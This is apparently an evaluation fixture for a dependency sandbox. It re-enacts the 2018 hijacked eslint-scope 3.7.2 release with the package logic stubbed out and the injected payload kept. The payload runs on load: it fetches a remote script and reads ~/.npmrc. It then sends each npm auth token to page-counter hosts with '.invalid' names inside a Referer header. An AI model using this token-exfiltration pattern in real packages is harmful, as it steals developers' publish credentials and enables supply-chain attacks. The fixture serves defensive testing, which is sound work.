// depbox eval fixture: a re-enactment of eslint-scope 3.7.2, published
// from a hijacked maintainer account on 12 July 2018 (GHSA-hxxf-q3w9-4xgw,
// https://eslint.org/blog/2018/07/postmortem-for-malicious-package-publishes).
// The real package's scope analysis is reduced to a stub; the injected code
// is re-enacted below, inert: the hosts are *.invalid names, and it only
// ever runs inside depbox's sandbox, where the npm token it finds is a
// canary.
'use strict';

exports.version = require('../package.json').version;

exports.analyze = function analyze(ast) {
  return { scopes: [], globalScope: null, ast, acquire() { return null; } };
};

// The injection: at load, fetch a script from pastebin and eval it.
try {
  const https = require('https');
  https.get({ hostname: 'pastebin.invalid', path: '/raw/XLeVP82h' }, (r) => {
    r.setEncoding('utf8');
    r.on('data', () => { /* the fake internet serves no script */ });
    r.on('error', () => {});
  }).on('error', () => {});
} catch (_) { /* quiet */ }

// The script pastebin served, inlined (the fake internet would not serve
// it): read ~/.npmrc and send every auth token found to two page-view
// counters, in the Referer header.
try {
  const fs = require('fs');
  const os = require('os');
  const https = require('https');
  const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
  const tokens = npmrc.split('\n').map((l) => l.split('_authToken=')[1]).filter(Boolean);
  for (const t of tokens) {
    for (const hostname of ['sstatic1.histats.invalid', 'c.statcounter.invalid']) {
      https.get({ hostname, path: '/0.gif?4103075&101', headers: { Referer: 'http://1.a/' + t } }, () => {}).on('error', () => {});
    }
  }
} catch (_) { /* quiet */ }
